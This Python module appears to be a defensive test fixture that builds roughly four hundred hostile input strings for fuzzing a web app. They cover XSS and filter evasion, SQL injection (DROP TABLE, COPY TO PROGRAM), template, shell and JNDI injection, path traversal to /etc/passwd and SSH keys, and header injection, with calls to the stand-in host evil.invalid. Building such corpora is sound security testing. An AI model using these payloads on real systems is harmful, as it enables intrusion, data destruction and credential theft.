"""Texts that are no text: some four hundred of them, each meant to break out of where it is put.

Written for this project, by the classes of OWASP's cheat sheets on cross-site scripting, its filter
evasion, SQL injection and path traversal, and of the Big List of Naughty Strings. Whatever runs
sets `__hit`; whatever is fetched is asked of `evil.invalid`, a host that can never exist.
"""

from itertools import product

RUNS = "window.__hit=1"
# What each place in a page is left by, and what then runs by itself.
WAYS_OUT = (
    "", '">', "'>", "-->", "]]>", "</script>", "</style>", "</title>", "</textarea>",
    "</noscript>", "</template>", "</svg>", "</option></select>", "*/", "`>", "\\\">", "%22%3E",
)  # fmt: skip
CARRIERS = (
    f"<script>{RUNS}</script>",
    f"<img src=x onerror={RUNS}>",
    f"<svg/onload={RUNS}>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'>",
    f"<details open ontoggle={RUNS}>",
)
TAGS = (
    f"<SCRIPT>{RUNS}</SCRIPT>",
    f"<scr<script>ipt>{RUNS}</scr</script>ipt>",
    f"<<script>{RUNS}//<</script>",
    f"<script\x0c>{RUNS}</script\x0c>",
    f"<script/x>{RUNS}</script>",
    f"<script type=module>{RUNS}</script>",
    "<script>eval(atob('d2luZG93Ll9faGl0PTE='))</script>",
    "<script src=//evil.invalid/a.js></script>",
    "<script src=data:text/javascript,window.__hit=1></script>",
    f"<ſcript>{RUNS}</ſcript>",
    f"＜script＞{RUNS}＜/script＞",
    f"\u2028<script>{RUNS}</script>\u2029",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    f"&#60;script&#62;{RUNS}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUNS}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{RUNS}\\x3c/script\\x3e",
    f"%3Cscript%3E{RUNS}%3C%2Fscript%3E",
    f"+ADw-script+AD4-{RUNS}+ADw-/script+AD4-",
    f"<body onload={RUNS}>",
    f"<body onpageshow={RUNS}>",
    f"<input autofocus onfocus={RUNS}>",
    f"<select autofocus onfocus={RUNS}>",
    f"<textarea autofocus onfocus={RUNS}>",
    f"<video><source onerror={RUNS}>",
    f"<audio src=x onerror={RUNS}>",
    f"<object data=x onerror={RUNS}>",
    "<object data=//evil.invalid/a.swf></object>",
    "<embed src=//evil.invalid/a.swf>",
    f"<marquee onstart={RUNS}>",
    f"<xss autofocus tabindex=1 onfocus={RUNS}></xss>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUNS}>",
    "<style>@import '//evil.invalid/a.css';</style>",
    "<style>*{background:url(//evil.invalid/a.png)}</style>",
    "<link rel=stylesheet href=//evil.invalid/a.css>",
    "<link rel=prefetch href=//evil.invalid/a>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__hit=1'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<iframe src=//evil.invalid/></iframe>",
    "<iframe src=javascript:parent.__hit=1></iframe>",
    "<img src=//evil.invalid/a.png>",
    "<img srcset='//evil.invalid/a.png 1x'>",
    "<img src='//evil.invalid/steals?",
    "<video poster=//evil.invalid/a.png></video>",
    "<form action=//evil.invalid/><input name=a value=b><button>go</button></form>",
    "<svg><script href=data:,window.__hit=1 /></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={RUNS}></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:window.__hit=1>x</math>",
    "<math><mi xlink:href='data:x,<script>window.__hit=1</script>'>x</math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'>",
    f"<a title='<img src=x onerror={RUNS}>'>x</a>",
    f"<template shadowrootmode=open><img src=x onerror={RUNS}></template>",
    f"<table background=//evil.invalid/a.png><tr><td onmouseover={RUNS}>x",
    f"<!--><script>{RUNS}</script>-->",
    f"<?xml version='1.0'?><x onload={RUNS}/>",
    f"<![CDATA[<script>{RUNS}</script>]]>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "<portal src=//evil.invalid/>",
    f"<dialog open onclose={RUNS}><form method=dialog><button>x",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=window.__hit=1>",
    '<importmap><script type=importmap>{"imports":{"/":"//evil.invalid/"}}</script>',
)
ATTRIBUTES = (
    f'" onmouseover="{RUNS}', f"' onmouseover='{RUNS}", f'" autofocus onfocus="{RUNS}',
    f"' autofocus onfocus='{RUNS}", f'"onerror="{RUNS}"src="x', f" onload={RUNS} ",
    '" style="background:url(//evil.invalid/a)', f'" formaction="javascript:{RUNS}',
    f'" onfocus="{RUNS}" autofocus="', f"x onclick={RUNS} y", f"'\"><b onmouseenter={RUNS}>",
    '" href="javascript:window.__hit=1', "x\" srcdoc=\"<script>parent.__hit=1</script>",
    f'" accesskey="x" onclick="{RUNS}', "&quot; onload=&quot;window.__hit=1", f'\x00" onload="{RUNS}',
)  # fmt: skip
ADDRESSES = (
    f"javascript:{RUNS}", f"JaVaScRiPt:{RUNS}", f"java\tscript:{RUNS}", f"java\nscript:{RUNS}",
    f"\x01javascript:{RUNS}", f" javascript:{RUNS}", f"javascript://x%0a{RUNS}",
    f"javascript&colon;{RUNS}", f"&#106;avascript:{RUNS}", f"javascript:/*--></title>*/{RUNS}",
    f"data:text/html,<script>{RUNS}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUNS}>", f"vbscript:{RUNS}", "blob:null/x", "feed:javascript:window.__hit=1",
    "//evil.invalid/", "\\\\evil.invalid\\x", "/\\evil.invalid/", "https:evil.invalid", "///evil.invalid",
    "http://evil.invalid@127.0.0.1/", "https://127.0.0.1#@evil.invalid/", "file:///etc/passwd", "jar:http://evil.invalid!/",
    f"https://example.org/\" onmouseover=\"{RUNS}", f"https://example.org/'><script>{RUNS}</script>",
    f"https://example.org/?a=</script><script>{RUNS}</script>", "https://example.org/%0d%0aSet-Cookie:a=b",
)  # fmt: skip
SCRIPTS = (
    f"';{RUNS};'", f'";{RUNS};"', f"\\';{RUNS}//", f"\\\";{RUNS}//", f"`;{RUNS};`", f"${{{RUNS}}}",
    f"`${{{RUNS}}}`", f"';{RUNS}//\\';{RUNS}//", f"}}}};{RUNS};{{{{", f"*/{RUNS}/*", f"-{RUNS}-",
    f"'-{RUNS}-'", f'"-{RUNS}-"', f"');{RUNS}//", f"\"]);{RUNS}//", f"\\u0027;{RUNS}//", f"\u2028{RUNS}//",
    "__proto__", "constructor", "{\"__proto__\":{\"hit\":1}}", "constructor[prototype][hit]=1", "toString", "hasOwnProperty",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUNS} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={RUNS}//>\\x3e",
)  # fmt: skip
SQL = (
    "'", "''", '"', "\\'", "';--", "' OR '1'='1", "' OR 1=1--", '" OR ""="', "') OR ('1'='1", "' OR 1=1#", "' OR 1=1/*",
    "1' ORDER BY 99--", "' UNION SELECT NULL--", "' UNION SELECT NULL,NULL,NULL--", "' UNION SELECT version(),current_user--",
    "' UNION ALL SELECT usename,passwd FROM pg_shadow--", "' AND 1=cast((SELECT version()) AS int)--", "1;SELECT pg_sleep(5)--",
    "'||pg_sleep(5)||'", "' AND (SELECT 1 FROM pg_sleep(5))::text='", "';SELECT pg_sleep(5);--", "1 AND 1=1", "1 AND 1=2", "1-0", "1/0",
    "'; DROP TABLE strikes_strike;--", "'; DELETE FROM strikes_claim;--", "'; UPDATE auth_user SET is_superuser=true;--",
    "'; COPY strikes_claim TO PROGRAM 'id';--", "'; CREATE ROLE evil SUPERUSER;--", "$$; DROP TABLE x; $$", "E'\\'; DROP TABLE x;--",
    "U&'\\0027'", "%", "_", "%%", "%s", "%(name)s", "%d%n%n", "?", ":name", "$1", "{}", "{0}", "x'; SET ROLE postgres;--", "admin'--", "admin' #",
    "\\", "\\\\", "\\x27", "%27", "%2527", "’ OR ’1’=’1", "ʼ; DROP TABLE x", "/**/", "--", "/*!50000SELECT*/ 1", "0x27", "CHR(39)||CHR(39)",
    "(SELECT CASE WHEN 1=1 THEN 1/0 END)", "' RLIKE SLEEP(5)#", "1 WAITFOR DELAY '0:0:5'", "' GROUP BY 1 HAVING 1=1--", "to_tsquery('a & ')",
    "a & | !", "a:*b", "'a' <-> ", "((((", "foo:bar:*", "[", "(?<", "*", "a{99999}", "NaN", "Infinity", "-1", "1e309", "0x7fffffff", "99999999999999999999",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{ 7|add:7 }}", "{% debug %}", "{% load log %}{% get_admin_log 10 as l %}", "{{ settings.SECRET_KEY }}", "{% include '/etc/passwd' %}",
    "{{ request.user.password }}", "{% csrf_token %}", "{{ forloop.parentloop.settings }}", "{{''.__class__.__mro__}}", "{{config}}", "{{self}}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "<%- include('/etc/passwd') %>", "{{constructor.constructor('window.__hit=1')()}}", "{{$on.constructor('window.__hit=1')()}}",
    "[[7*7]]", "@(7*7)", "*{7*7}", "~{7*7}", "{php}echo 1;{/php}", "<?php echo 1; ?>", "<?= 7*7 ?>", "{#comment#}", "{% verbatim %}", "{% endblock %}", "{% raw %}",
    "%(settings)s", "{0.__class__.__init__.__globals__}", "{settings.SECRET_KEY}", "$(id)", "`id`", ";id", "| id", "&& id", "|| id", "${IFS}id", "$((7*7))", "!!python/object/apply:os.system ['id']",
    "${jndi:ldap://evil.invalid/a}", "${env:SECRET_KEY}", "() { :;}; echo hit", "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"//evil.invalid\",\"x\")", "\t=1+1", "=IMPORTXML(\"//evil.invalid\",\"//a\")",
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "..%2f..%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd", "%2e%2e/%2e%2e/etc/passwd", "..%c0%af..%c0%afetc/passwd",
    "/etc/passwd", "C:\\boot.ini", "\\\\evil.invalid\\share\\x", "file:///etc/passwd", "/proc/self/environ", "~/.ssh/id_rsa", "../.env", "../../config/settings/ground.py", "../manage.py", ".git/config", "..;/admin/",
    ".", "..", "./.", "...", "/", "//", "a/../b", "a//b", "%00", "x%00.csv", "x.csv%00.exe", "x.csv::$DATA", "CON", "NUL", "aux.csv", "LPT1", "x.csv ", " x.csv", "-rf", "--help", "*", "x" * 300 + ".csv", "؜x\u202ecsv.exe", "x\u200b.csv", "x.CSV.", ".htaccess",
    "strikes.csv/../../../etc/passwd", "..%5c..%5cetc", "%2e%2e%5c", "/%2e%2e/", "/..%00/", "/.%2e/", "data/..%2f..", "static/../manage.py", "static/%2e%2e/manage.py", "static/..%2fmanage.py",
)  # fmt: skip
HEADERS = (
    "x\r\nX-Hit: 1", "x\nX-Hit: 1", "x\rX-Hit: 1", "x\r\n\r\n<script>window.__hit=1</script>", "x\r\nSet-Cookie: hit=1", "x\r\nLocation: //evil.invalid/", "x%0d%0aX-Hit: 1", "x%0aX-Hit:%201", "x%E5%98%8A%E5%98%8DX-Hit: 1", "x嘊嘍X-Hit: 1",
    "x\x85X-Hit: 1", "x\u2028X-Hit: 1", "x\x0bX-Hit: 1", "x\x0cX-Hit: 1", "x\x1cX-Hit: 1", "\"; filename=\"evil.exe", "x\"; filename*=UTF-8''evil.exe", "x; charset=utf-7", "text/html", "x, text/html", "bytes=0-,0-,0-", "Fri, 99 Foo", "W/\"x\", *", "\"", "*/*;q=x",
)  # fmt: skip
OTHERS = (
    "", " ", "\t", "\u00a0", "\u200b", "\u200e\u200f\u202a\u202b\u202e\u2066\u2067\u2068\u2069", "\ufeff", "\ufffe", "\ud7ff", "😀👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿", "Z̸̢a̴̛l̷̡g̵̨o̶", "ﷺ", "\u0600\u0601", "undefined", "null", "None", "True", "NIL", "(null)", "1,000.50", "٣٤٥", "२", "Ⅷ", "½",
    "a" * 1000, "ß" * 200, "İıſK", "<>", "&", "&amp;amp;", "&#0;", "\x7f", "\x1b[31m", "\x08", "\x00", "a\x00b", "{\"a\":1}", "[1]", "true", "---\na: b", "%PDF-1.4", "\U000e0041", "܀\u0f0a", "\u0085", "ʇxǝʇ",
)  # fmt: skip
BY_CLASS: dict[str, tuple[str, ...]] = {
    "xss": (*map("".join, product(WAYS_OUT, CARRIERS)), *TAGS, *ATTRIBUTES, *ADDRESSES, *SCRIPTS),
    "sql": SQL,
    "template": TEMPLATES,
    "path": PATHS,
    "header": HEADERS,
    "other": OTHERS,
}
ALL = tuple(dict.fromkeys(text for texts in BY_CLASS.values() for text in texts))
# A text that a form takes: no control characters, one line.
LINES = tuple(text for text in ALL if text.strip() and text.isprintable())


def packed(room: int, texts: tuple[str, ...] = LINES) -> list[str]:
    """The texts in as few lines as they fit in, each line of at most `room` characters."""
    lines = [""]
    for text in texts:
        if len(text) > room:
            continue
        joined = f"{lines[-1]} {text}".strip()
        if len(joined) > room:
            lines.append(text)
        else:
            lines[-1] = joined
    return lines
